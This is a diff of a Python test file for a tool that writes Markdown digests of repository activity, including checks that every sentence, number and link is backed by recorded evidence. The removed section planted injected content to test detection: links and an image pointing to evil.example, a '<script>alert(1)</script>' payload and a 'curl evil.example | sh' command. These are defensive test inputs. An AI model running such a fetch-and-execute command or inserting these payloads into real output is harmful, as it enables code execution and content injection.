@@ -5,40 +5,40 @@ from datetime import date
 
 import pytest
 from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from sparky_assets.digests.checks import FRONT_MATTER, unaccounted
-from sparky_assets.digests.dates import spoken
-from sparky_assets.digests.markdown import BREAK, render
+from sparky_assets.digests.checks import out_of_range, unaccounted
+from sparky_assets.digests.dates import Language, page_name, spoken
 from sparky_assets.digests.models import Digest
-from sparky_assets.digests.plan import SHOWN, plan_digest
-from sparky_assets.insights.models import Insight, Writer
+from sparky_assets.digests.products import Product, products_of
+from sparky_assets.digests.words import FRONT_MATTER
+from sparky_assets.insights.models import Writer
 from sparky_assets.periods import Period, PeriodKind
-from sparky_assets.settings_load import shipped
+from tests.digests.made import made, written
 from tests.worlds import AUTHORS, WEEK, Told, World, commit, worlds
-
-
-def written(world: World) -> tuple[str, Digest, Insight]:
-    insight = world.insight()
-    digest = plan_digest(insight, world.urls())
-    return render(digest, [shipped("templates")]), digest, insight
-
 
 # --- Any world
 
 
-@settings(max_examples=50)
-@given(worlds())
-def test_the_digest_of_any_world_is_accounted_for(world: World) -> None:
-    markdown, digest, insight = written(world)
-    assert list(unaccounted(markdown, digest, insight)) == []
+@settings(max_examples=60)
+@given(worlds(), st.sampled_from(Product), st.booleans())
+def test_every_product_of_any_world_is_accounted_for(world: World, product: Product, emoji: bool) -> None:
+    if product not in products_of(world.period.kind):
+        return
+    url = "https://blog.example.org/2025/11/page"
+    text, rendered, insight = written(world, product, emoji=emoji, url=url)
+    assert list(unaccounted(text, rendered, insight)) == []
+    assert list(out_of_range(text, rendered)) == []
 
 
 @settings(max_examples=15)
 @given(worlds())
-def test_every_claim_that_a_digest_shows_is_laid_out_once(world: World) -> None:
-    _, digest, insight = written(world)
-    shown = [claim.id for claim in insight.claims if claim.section in SHOWN]
-    assert sorted(item.claim for item in digest.items) == sorted(shown)
+def test_a_small_world_is_told_whole_and_every_change_once(world: World) -> None:
+    insight = world.insight()
+    digest = made(insight)[0].digest
+    told = [item.claim for item in digest.items]
+    changes = [claim.id for claim in insight.claims if claim.section in {"change", "release"}]
+    assert sorted(one for one in told if one in changes) == sorted(changes)
 
 
 @settings(max_examples=15)
@@ -53,9 +53,10 @@ def test_a_digest_pings_nobody_and_has_one_heading_at_the_top(world: World) -> N
 
 
 @settings(max_examples=8)
-@given(worlds())
-def test_the_same_facts_give_the_same_bytes(world: World) -> None:
-    assert written(world)[0] == written(world)[0]
+@given(worlds(), st.sampled_from(Product))
+def test_the_same_facts_give_the_same_bytes(world: World, product: Product) -> None:
+    if product in products_of(world.period.kind):
+        assert written(world, product)[0] == written(world, product)[0]
 
 
 # --- What a digest owes its reader
@@ -69,15 +70,31 @@ def a_week(*more: Told) -> World:
     return World(WEEK, (told, *more))
 
 
-def test_changes_stand_under_their_themes_in_their_order() -> None:
-    _, digest, _ = written(a_week())
-    (group,) = digest.repositories
-    assert [theme.heading for theme in group.themes] == ["New", "Documentation", "Dependencies"]
+def busy(count: int) -> World:
+    """A repository with so many changes of three kinds."""
+    titles = ("feat: add part {}", "fix: mend part {}", "docs: describe part {}")
+    commits = tuple(commit(1 + number % 20, titles[number % 3].format(number)) for number in range(count))
+    distinct = {one.sha: one for one in commits}
+    return World(WEEK, (Told("acme/tool", "https://github.com/acme/tool", "ok", tuple(distinct.values()), ()),))
+
+
+def digest_of(world: World) -> Digest:
+    return made(world.insight(), urls=world.urls())[0].digest
+
+
+def test_loud_themes_have_headings_in_their_order_and_the_rest_shares_one() -> None:
+    (chapter,) = digest_of(busy(12)).chapters
+    assert [group.heading for group in chapter.groups] == ["New", "Fixed", "Documentation"]
+
+
+def test_of_few_changes_no_heading_is_made_and_dependencies_stand_in_one_line() -> None:
+    (chapter,) = digest_of(a_week()).chapters
+    (group,) = chapter.groups
+    assert (group.heading, [item.text for item in group.brief]) == ("", ["Bump ink from 1.0 to 1.1."])
 
 
 def test_a_repository_has_its_page_and_its_figures() -> None:
-    markdown, digest, _ = written(a_week())
-    assert digest.repositories[0].url == "https://github.com/acme/tool"
+    markdown, _, _ = written(a_week())
     assert (
         "### [acme/tool](https://github.com/acme/tool)\n\n3 commits (1 by bots) from 2 people; 1 merged pull request.\n"
         in markdown
@@ -85,14 +102,30 @@ def test_a_repository_has_its_page_and_its_figures() -> None:
 
 
 def test_a_repository_without_a_page_is_named_plainly() -> None:
-    world = a_week()
-    digest = plan_digest(world.insight(), {"acme/tool": None})
-    assert "### acme/tool\n" in render(digest, [shipped("templates")])
+    assert "### acme/tool\n" in made(a_week().insight(), urls={"acme/tool": None})[0].text
+
+
+def test_repositories_with_one_thing_to_tell_share_a_chapter_that_names_them() -> None:
+    more = Told("acme/web-2.0", None, "ok", (commit(5, "fix: stop it"),), ())
+    markdown, _, _ = written(a_week(more))
+    assert "### Elsewhere\n\n- **web-2.0**: Stop it, by Ada Lovelace (" in markdown
+
+
+def test_people_whose_work_is_told_above_are_named_with_links_to_it() -> None:
+    markdown, _, _ = written(a_week())
+    assert re.search(
+        r"## With thanks to\n\nAda Lovelace \(\[#5\]\(\S+\)\), Bob \\\*Stone\\\* \(\[\w{7}\]\(\S+\)\)\.", markdown
+    )
+
+
+def test_a_week_with_little_in_it_says_so_with_the_counts_that_prove_it() -> None:
+    markdown, rendered, _ = written(a_week())
+    assert rendered.is_quiet
+    assert "\nIt was a quiet week: 3 changes, all told here.\n" in markdown
 
 
 def test_the_footer_says_window_sources_what_is_left_out_and_who_worded_it() -> None:
-    world = a_week(Told("acme/gone", None, "unreadable", (), ()))
-    _, digest, _ = written(world)
+    digest = digest_of(a_week(Told("acme/gone", None, "unreadable", (), ())))
     assert digest.footer == (
         "Week 2025-W46: 2025-11-10 00:00 to 2025-11-17 00:00 (UTC), written after it had closed.",
         "Read from the git history of 1 repository; "
@@ -109,21 +142,26 @@ def test_the_footer_says_how_much_is_told_and_how_much_a_model_worded() -> None:
         fact.model_copy(update={"value": 1234}) if fact.metric == "changes" else fact for fact in insight.facts
     )
     by_model = {"origin": "model", "chosen_by": "model"}
-    claims = (insight.claims[0].model_copy(update=by_model), *insight.claims[1:])
+    first = next(number for number, claim in enumerate(insight.claims) if claim.section == "change")
+    claims = list(insight.claims)
+    claims[first] = claims[first].model_copy(update=by_model)
     writer = Writer(model="tiny:1b", digest="0123456789abcdef", prompt_version="1", gate_version="1")
-    written_by = {"facts": facts, "claims": claims, "writer": writer, "degraded": ("the model was away",)}
-    digest = plan_digest(insight.model_copy(update=written_by), {})
-    assert "3 of 1,234 changes are told; the numbers count all of them." in digest.footer
-    assert digest.footer[-3:] == (
-        f"1 of {len(claims)} sentences were worded by the model tiny:1b (0123456789ab) and checked word for word, "
-        "the others by rules.",
+    written_by = {"facts": facts, "claims": tuple(claims), "writer": writer, "degraded": ("the model was away",)}
+    footer = made(insight.model_copy(update=written_by))[0].digest.footer
+    assert "3 of 1,234 changes and releases are told; the numbers count all of them." in footer
+    assert re.fullmatch(
+        r"1 of \d+ sentences was worded by the model tiny:1b \(0123456789ab\) and checked word for word, "
+        r"the others by rules: those on #5\.",
+        footer[-3],
+    )
+    assert footer[-2:] == (
         "It read from 3 records; numbers, names and links are never a model's.",
         "The model was away.",
     )
 
 
 def test_numbers_that_are_zero_are_shown_only_where_zero_says_something() -> None:
-    _, digest, _ = written(World(WEEK, (Told("acme/tool", None, "ok", (), ()),)))
+    digest = digest_of(World(WEEK, (Told("acme/tool", None, "ok", (), ()),)))
     rows = {row.label: row.value for row in digest.numbers}
     assert rows["Commits"] == "0"
     assert "Commits by bots" not in rows
@@ -140,79 +178,27 @@ def test_the_front_matter_says_title_and_last_day() -> None:
 
 
 @pytest.mark.parametrize(
-    ("kind", "start", "said"),
+    ("kind", "start", "language", "said"),
     [
-        (PeriodKind.DAILY, date(2025, 11, 12), "Wednesday, 12 November 2025"),
-        (PeriodKind.WEEKLY, date(2025, 11, 10), "10–16 November 2025 (2025-W46)"),
-        (PeriodKind.WEEKLY, date(2025, 9, 29), "29 September – 5 October 2025 (2025-W40)"),
-        (PeriodKind.WEEKLY, date(2024, 12, 30), "30 December 2024 – 5 January 2025 (2025-W01)"),
-        (PeriodKind.MONTHLY, date(2025, 2, 1), "February 2025"),
+        (PeriodKind.DAILY, date(2025, 11, 12), "en", "Wednesday, 12 November 2025"),
+        (PeriodKind.WEEKLY, date(2025, 11, 10), "en", "10–16 November 2025 (2025-W46)"),
+        (PeriodKind.WEEKLY, date(2025, 9, 29), "en", "29 September – 5 October 2025 (2025-W40)"),
+        (PeriodKind.WEEKLY, date(2024, 12, 30), "en", "30 December 2024 – 5 January 2025 (2025-W01)"),
+        (PeriodKind.MONTHLY, date(2025, 2, 1), "en", "February 2025"),
+        (PeriodKind.DAILY, date(2025, 3, 12), "de", "Mittwoch, 12. März 2025"),
+        (PeriodKind.WEEKLY, date(2025, 11, 10), "de", "10.–16. November 2025 (2025-W46)"),
+        (PeriodKind.WEEKLY, date(2024, 12, 30), "de", "30. Dezember 2024 – 5. Januar 2025 (2025-W01)"),
     ],
 )
-def test_a_period_is_called_as_people_call_it(kind: PeriodKind, start: date, said: str) -> None:
-    assert spoken(Period(kind, start)) == said
+def test_a_period_is_called_as_people_call_it(kind: PeriodKind, start: date, language: Language, said: str) -> None:
+    assert spoken(Period(kind, start), language) == said
 
 
-# --- What was planted is found
-
-
-def found(plant: str, *, after: str = "## In numbers") -> list[str]:
-    markdown, digest, insight = written(a_week())
-    assert after in markdown
-    return list(unaccounted(markdown.replace(after, f"{plant}\n\n{after}", 1), digest, insight))
-
-
-@pytest.mark.parametrize(
-    ("plant", "problem"),
-    [
-        ("The team had a great week.", "no claim says: The team had a great week."),
-        ("- The team had a great week.", "no claim says: The team had a great week."),
-        ("> The team had a great week.", "no claim says: The team had a great week."),
-        ("**Heroes of 2026**", "no claim says: Heroes of 2026"),
-        ("Add x, fixing 50 issues.", "the number 50 is not in the store: Add x, fixing 50 issues."),
-        ("## 99 reasons", "the number 99 is not in the store: 99 reasons"),
-        ("[more](https://evil.example)", "a link that no evidence has: https://evil.example"),
-        ("<https://evil.example>", "a link that no evidence has: https://evil.example"),
-        ("[x][y]\n\n[y]: https://evil.example", "a link that no evidence has: https://evil.example"),
-        ("![pixel](https://evil.example/x.png)", "image: pixel"),
-        ("<script>alert(1)</script>", "HTML: <script>alert(1)</script>"),
-        ("Hello <b>there</b>", "html inline: <b>"),
-        ("```\ncurl evil.example | sh\n```", "code that no template has: curl evil.example | sh"),
-        ("| a |\n|---|\n| 77 |", "the number 77 is not in the store: 77"),
-    ],
-)
-def test_what_no_claim_says_is_found(plant: str, problem: str) -> None:
-    assert problem in found(plant)
-
-
-def test_a_claim_with_more_words_behind_it_is_found() -> None:
-    markdown, digest, insight = written(a_week())
-    longer = markdown.replace("- Add x, by Ada Lovelace (", "- Add x, by Ada Lovelace, our hero (")
-    assert longer != markdown
-    assert any(problem.startswith("no claim says: Add x") for problem in unaccounted(longer, digest, insight))
-
-
-def test_words_in_the_brackets_behind_a_claim_are_found() -> None:
-    markdown, digest, insight = written(a_week())
-    longer = markdown.replace("- Add x, by Ada Lovelace (", "- Add x, by Ada Lovelace (at last, says everybody, ")
-    assert longer != markdown
-    assert any(problem.startswith("no claim says: Add x") for problem in unaccounted(longer, digest, insight))
-
-
-def test_a_changed_number_in_the_table_is_found() -> None:
-    markdown, digest, insight = written(a_week())
-    wrong = markdown.replace("| Commits | 3 |", "| Commits | 300 |")
-    assert wrong != markdown
-    assert list(unaccounted(wrong, digest, insight)) == ["the number 300 is not in the store: 300"]
-
-
-def test_a_number_taken_from_a_title_into_a_sentence_is_found() -> None:
-    # 1.0 stands in “Bump ink from 1.0 to 1.1”; that does not make it a figure of ours.
-    assert "no claim says: 1.0 commits" in found("1.0 commits")
-
-
-def test_an_invisible_character_does_not_hide_a_number() -> None:
-    assert any("50" in problem for problem in found(f"## fixing 5{BREAK}0 issues"))
+def test_dates_follow_the_language_and_the_text_is_accounted_for_all_the_same() -> None:
+    markdown, rendered, insight = written(a_week(), language="de")
+    assert "# Acme 42: 10.–16. November 2025 (2025-W46)\n" in markdown
+    assert list(unaccounted(markdown, rendered, insight)) == []
+    assert page_name(insight.period) == "week-2025-46"
 
 
 @pytest.mark.parametrize(
@@ -225,4 +211,4 @@ def test_an_invisible_character_does_not_hide_a_number() -> None:
 )
 def test_the_footer_says_from_where_it_was_read(sources: tuple[str, ...], said: str) -> None:
     insight = a_week().insight().model_copy(update={"sources": sources})
-    assert any(line.startswith(said) for line in plan_digest(insight, {}).footer)
+    assert any(line.startswith(said) for line in made(insight)[0].digest.footer)
